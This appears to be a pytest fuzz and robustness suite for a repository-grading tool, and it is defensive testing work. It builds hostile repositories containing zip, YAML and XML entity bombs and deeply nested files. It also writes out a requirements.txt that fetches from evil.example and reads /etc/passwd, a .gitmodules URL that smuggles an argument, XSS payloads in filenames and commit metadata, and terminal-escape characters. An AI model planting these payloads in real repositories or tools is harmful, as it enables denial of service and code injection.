"""Hostile files, all in one repository: each costs only itself, and the grid says what was left out."""

from __future__ import annotations

import io
import json
import random
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from itertools import pairwise
from pathlib import Path

import pytest

from grader.pipeline import Grid, Order
from grader.render.page import render
from grader.rubric import load_rubric
from grader.settings import read_settings
from tests.conftest import commit, git
from tests.facts.test_documents import flate_bomb
from tests.grading import grade_in

LONG = 300_000


def zip_bomb(name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, b"0" * 250_000_000)
    return out.getvalue()


def yaml_bomb(head: str) -> str:
    names = "abcdefghij"
    rows = [f"{head}\n", "x-a: &a [x, x, x, x, x, x, x, x, x, x]\n"]
    rows += [f"x-{new}: &{new} [{', '.join([f'*{old}'] * 10)}]\n" for old, new in pairwise(names)]
    return "".join(rows)


HOSTILE: dict[str, bytes | str] = {
    "nested/parentheses.py": "x = " + "(" * 10_000 + ")" * 10_000,
    "nested/brackets.py": "[" * 50_000,
    "nested/unary.py": "x = " + "-" * 100_000 + "1",
    "nested/attributes.py": "x" + ".a" * 50_000,
    "nested/concatenation.py": "q = " + " + ".join(["'SELECT'"] * 5_000),
    "nested/parentheses.sql": "SELECT " + "(" * 10_000 + "1" + ")" * 10_000 + " FROM t;",
    "nested/deep.json": "[" * 100_000,
    "nested/package.json": '{"scripts": ' * 5_000,
    "nested/dashboard.json": '{"panels": [' * 20_000,
    "nested/deep.yml": "- " * 20_000 + "x",
    "nested/pyproject.toml": "a = " + "[" * 20_000,
    "bombs/compose.yml": yaml_bomb("services: {}"),
    ".github/workflows/bomb.yml": yaml_bomb("on: push\njobs: {}"),
    "bombs/a.docx": zip_bomb("word/document.xml"),
    "bombs/a.pptx": zip_bomb("ppt/presentation.xml"),
    "bombs/a.odt": zip_bomb("content.xml"),
    "bombs/a.pdf": flate_bomb(),
    "bombs/entities.html": "<!DOCTYPE x ["
    + "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 12))
    + "]><h1>&e11;</h1>",
    "encoding/latin.py": "# été\nnom = 'é'\n".encode("latin-1"),
    "encoding/utf16.py": "import os\n".encode("utf-16"),
    "encoding/nulls.py": b"import os\0\0\nos.system('x')\n",
    "encoding/latin.md": "# Résumé\nété\n".encode("latin-1"),
    "encoding/broken.ipynb": b"\xff\xfe{",
    "notebooks/object.ipynb": "{}",
    "notebooks/list.ipynb": "[1, 2]",
    "notebooks/types.ipynb": json.dumps(
        {"cells": [1, None, {"cell_type": "code", "source": {"a": 1}}, {"cell_type": "code", "source": 3}]}
    ),
    ".github/workflows/list.yml": "on: [push]\njobs: [1, 2]\n",
    ".github/workflows/types.yml": "on: 3\njobs: {a: {steps: {b: 1}}, c: {steps: [1, null, {run: 3}, {uses: [x]}]}, d: null, e: {needs: {x: 1}}}\n",
    ".github/workflows/nulls.yml": "on:\njobs:\n  a:\n    steps:\n",
    ".github/workflows/loop.yml": "on: push\njobs:\n  a:\n    uses: ./.github/workflows/loop.yml\n  b:\n    runs-on: x\n    steps: [{uses: ./.github/actions/a}, {run: bash loop.sh}, {run: make loop}]\n",
    ".github/actions/a/action.yml": "runs: {using: composite, steps: [{uses: ./.github/actions/b}]}\n",
    ".github/actions/b/action.yml": "runs: {using: composite, steps: [{uses: ./.github/actions/a}]}\n",
    "loop.sh": "bash loop.sh\nsh loop.sh || make loop\n",
    "Makefile": "loop:\n\tmake loop\n\tbash loop.sh\n",
    "cycle/a.py": "from cycle.b import f\nfrom cycle.a import g\n\n\ndef g(x):\n    return f(x)\n",
    "cycle/b.py": "from cycle.a import g\n\n\ndef f(x):\n    return g(x)\n",
    "cycle/own.py": "class A(A):\n    def m(self):\n        return self.m()\n\n\nx = x\ny = z\nz = y\n",
    "cycle/api.py": "from fastapi import APIRouter, FastAPI, Depends\n\napp = FastAPI()\nr = APIRouter()\ns = APIRouter()\nr.include_router(s)\ns.include_router(r)\napp.include_router(r, prefix='/a')\n\n\ndef d(x=Depends(lambda: d)):\n    return d(x)\n\n\n@r.get('/x', dependencies=[Depends(d)])\ndef x():\n    return x()\n",
    "site/urls.py": "from django.urls import include, path\n\nurlpatterns = [path('a/', include('site.urls')), path('b/', include('other.urls'))]\n",
    "other/urls.py": "from django.urls import include, path\n\nurlpatterns = [path('c/', include('site.urls'))]\n",
    "site/settings.py": "ROOT_URLCONF = 'site.urls'\nINSTALLED_APPS = [INSTALLED_APPS]\n",
    "manage.py": "import os\nos.environ['DJANGO_SETTINGS_MODULE'] = 'site.settings'\n",
    "many/functions.py": "".join(f"def f{i}(x):\n    return f{i - 1}(x) if x else {i}\n\n\n" for i in range(8_000)),
    "many/strings.py": "q = [\n" + "".join(f"    'SELECT a FROM t{i} WHERE b = {i}',\n" for i in range(3_000)) + "]\n",
    "requirements.txt": "x" * LONG
    + "\n-r /etc/passwd\n--index-url http://evil.example\ngit+https://evil.example/x\n"
    + "a==1\n" * 2_000,
    "a.py/x": "a folder named like a file",
    "deep/" + "/".join(["d" * 200] * 12) + "/x.py": "import os\n",
    ".gitattributes": "* export-ignore -text filter=evil\n",
    ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = -u./payload\n',
    ".env": "A=" + "x" * LONG + "\n",
    "<b onmouseover=alert(1)>.py": "import requests\nrequests.get('https://example.org/<script>alert(1)</script>')\n",
    "\u202egnp.py": "import requests\nrequests.get('https://example.org')\n",
    "new\nline.py": "import requests\nrequests.get('https://example.org')\n",
    "\x1b[31mred.md": "# \x1b[2J Installation \u202e\n\n```\npip install -r requirements.txt\n```\n",
}
HOSTILE |= {
    f"empty/file{suffix}": ""
    for suffix in [
        ".py",
        ".ipynb",
        ".md",
        ".txt",
        ".rst",
        ".html",
        ".pdf",
        ".docx",
        ".odt",
        ".pptx",
        ".sql",
        ".yml",
        ".yaml",
        ".json",
        ".toml",
        ".csv",
        ".js",
        ".ts",
        ".sh",
        ".ini",
        ".cfg",
        ".env",
        ".puml",
        ".drawio",
        ".rules",
    ]
}
CATASTROPHIC = ("a", "-", "|", " ", "\\", "'", '"', "`", "(", "{", "=", "/", "#", "_", "a.", "$", "<", "& ", ", ", "://", "é")


def monsters() -> Iterator[tuple[str, str]]:
    """Yield one long line of each catastrophic text, in files of each kind."""
    names = (
        "x.md",
        "x.py",
        "x.sql",
        "x.yml",
        "x.html",
        "Dockerfile",
        "Makefile",
        "Jenkinsfile",
        "x.sh",
        "x.env",
        "x.csv",
        "x.js",
        "x.toml",
        "x.txt",
        "x.rst",
        "x.ini",
        "x.json",
        "docker-compose.yml",
        "x.ipynb",
        "x.tsx",
    )
    for index, text in enumerate(CATASTROPHIC):
        for name in names:
            if (index + len(name)) % 3 == 0:
                size = LONG if name.endswith((".py", ".md", ".sql")) else 60_000
                yield f"long/{index:02}/{name}", (text * size)[:size]


@pytest.fixture(scope="module")
def grid(tmp_path_factory: pytest.TempPathFactory) -> Grid:
    work = commit(
        tmp_path_factory.mktemp("hostile") / "work",
        {**HOSTILE, **dict(monsters()), "good.py": "import logging\nlogging.basicConfig()\n"},
    )
    (work / "out").symlink_to("/etc/passwd")
    git(work, "add", "out")
    git(work, "update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},module")
    git(work, "commit", "--quiet", "--author", "&lt;script \x1b[2J <a@b>", "--message", "fix: \x1b[31m <img src=x>")
    git(work, "branch", "hotfix/<b>")
    settings = replace(read_settings({}), examine_seconds=240.0)
    return grade_in(Order(str(work), load_rubric("rncp37827"), settings), sandbox="bubblewrap", run=False)


def test_the_grid_is_whole_and_no_check_failed(grid: Grid) -> None:
    assert len(grid.proposals) == 142
    failed = {
        (f.check, f.reason)
        for f in grid.report.findings
        if f.reason and f.reason.startswith(("error-", "crashed", "took", "out-of", "examiner"))
    }
    assert failed == set()


def test_what_was_left_out_is_listed(grid: Grid) -> None:
    skipped = {s.path: s.reason for s in grid.report.skipped}
    assert (skipped["out"], skipped["module"]) == ("symlink", "submodule")
    for path in ("bombs/a.docx", "bombs/a.pptx", "bombs/a.odt", "nested/brackets.py", "encoding/broken.ipynb"):
        assert skipped.get(path) in ("unreadable", "too-deep", "took-too-long"), path
    assert "good.py" not in skipped
    assert len(skipped) < 140


def test_no_escape_reaches_the_page(grid: Grid) -> None:
    html = render(grid, "fr", {})
    assert "<script>alert" not in html
    assert "<b onmouseover" not in html
    assert "<img" not in html
    assert not {"\x1b", "\u202e", "\x07"} & set(html)


SEEDS: dict[str, str] = {
    "api/main.py": "from fastapi import FastAPI, Depends, HTTPException\n\napp = FastAPI()\n\n\ndef jeton(x: str):\n    if x != 'a':\n        raise HTTPException(401)\n\n\n@app.get('/a', dependencies=[Depends(jeton)])\ndef a(db):\n    return db.execute('SELECT a, b FROM t JOIN u ON t.i = u.i WHERE a > 1').fetchall()\n",
    "site/urls.py": "from django.urls import path\nfrom . import views\n\nurlpatterns = [path('x/', views.x, name='x')]\n",
    "tests/test_a.py": "import pytest\nfrom fastapi.testclient import TestClient\nfrom api.main import app\n\n\n@pytest.mark.parametrize('p', ['/a'])\ndef test_a(p):\n    assert TestClient(app).get(p).status_code == 401\n",
    ".github/workflows/ci.yml": "on: [push]\njobs:\n  t:\n    runs-on: u\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          pip install -r requirements.txt\n          pytest --cov-fail-under=80\n",
    "docker-compose.yml": "services:\n  api:\n    build: .\n    ports: ['8000:8000']\n    environment:\n      CLE: abc\n  prometheus:\n    image: prom/prometheus\n    volumes: ['./prometheus.yml:/etc/p.yml']\n",
    "prometheus.yml": "scrape_configs:\n  - job_name: api\n    static_configs:\n      - targets: ['api:8000']\nrule_files: [alertes.yml]\n",
    "alertes.yml": "groups:\n  - name: a\n    rules:\n      - alert: Lent\n        expr: latence > 1\n        for: 5m\n",
    "grafana/tableau.json": '{"title": "a", "panels": [{"title": "b", "targets": [{"expr": "rate(latence[5m])"}]}]}',
    "base/schema.sql": "CREATE TABLE t (i INT PRIMARY KEY, nom TEXT);\nCREATE INDEX x ON t (nom);\nINSERT INTO t VALUES (1, 'a');\nSELECT count(*) FROM t GROUP BY nom;\n",
    "README.md": "# Projet\n\n## Installation\n\n```bash\npip install -r requirements.txt\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```mermaid\nerDiagram\n  A ||--o{ B : x\n```\n",
    "n.ipynb": '{"cells": [{"cell_type": "code", "metadata": {}, "source": ["import pandas as pd\\n", "pd.read_csv(\'a.csv\').dropna()"]}], "nbformat": 4, "nbformat_minor": 5, "metadata": {}}',
    "requirements.txt": "fastapi==0.1\npandas>=2\n",
    "package.json": '{"scripts": {"test": "vitest run"}, "dependencies": {"express": "^4"}}',
    "Dockerfile": 'FROM python:3.12\nRUN pip install -r requirements.txt\nUSER 1000\nCMD ["uvicorn", "api.main:app"]\n',
    "web/app.js": "const app = express();\napp.get('/x', (req, res) => { fetch('/a').then(r => r.json()) })\n",
    ".env": "CLE=abc\n",
    "pyproject.toml": "[project]\nname = 'a'\ndependencies = ['fastapi']\n[tool.pytest.ini_options]\naddopts = '--cov=api'\n",
}
NOISE = (
    "\x00",
    "\x1b[2J",
    "{",
    "}",
    "[",
    ")",
    ":",
    "\t",
    "null",
    "<",
    "%",
    "*",
    "&a",
    "\ud7ff",
    "'",
    '"',
    "- ",
    "@",
    "import",
    "1e999",
)


def mutants(seed: int) -> Iterator[tuple[str, str]]:
    """Yield every seed file, damaged: cut, doubled, shuffled, or with noise in it. The same seed gives the same files."""
    chance = random.Random(seed)
    for path, text in SEEDS.items():
        for number in range(4):
            changed = text
            for _ in range(chance.randint(1, 6)):
                at = chance.randrange(len(changed) + 1)
                match chance.randrange(4):
                    case 0:
                        changed = changed[:at] + chance.choice(NOISE) + changed[at:]
                    case 1:
                        changed = changed[:at] + changed[min(len(changed), at + chance.randint(1, 12)) :]
                    case 2:
                        changed = changed[:at] + changed[max(0, at - 30) :]
                    case _:
                        lines = changed.split("\n")
                        chance.shuffle(lines)
                        changed = "\n".join(lines)
            yield f"m{number}/{path}" if not path.startswith(".github") else path.replace("ci.yml", f"ci{number}.yml"), changed


@pytest.mark.parametrize("seed", range(3))
def test_damaged_files_fail_no_check(tmp_path: Path, seed: int) -> None:
    work = commit(tmp_path / "work", dict(mutants(seed)))
    found = grade_in(Order(str(work), load_rubric("rncp37827"), read_settings({})), sandbox="bubblewrap", run=False)
    failed = {
        (f.check, f.reason)
        for f in found.report.findings
        if f.reason and f.reason.startswith(("error-", "crashed", "took", "out-of", "examiner"))
    }
    assert failed == set()
